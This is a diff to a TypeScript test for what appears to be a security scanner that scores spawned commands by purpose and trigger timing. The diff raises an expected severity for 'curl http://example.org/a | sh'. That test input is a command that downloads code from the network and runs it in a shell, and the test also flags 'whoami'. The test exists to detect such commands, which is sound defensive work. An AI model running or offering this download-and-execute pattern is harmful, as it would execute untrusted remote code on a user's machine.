@@ -8,7 +8,7 @@ const TRIGGERS: readonly Trigger[] = ["download", "import", "script", "deferred"
 test("weighs what the command is for, and when it runs", () => {
   const command = (argument: string): readonly (string | null)[] =>
     severitiesAt(runsCommand, TRIGGERS, effect("process.spawn", { argument }));
-  expect(command("curl http://example.org/a | sh")).toEqual(["high", "high", "high", "medium", "info"]);
+  expect(command("curl http://example.org/a | sh")).toEqual(["high", "high", "high", "high", "info"]);
   expect(command("git describe --tags")).toEqual(["info", "info", "info", "info", "info"]);
   expect(command("whoami")[0]).toBe("high");
 });
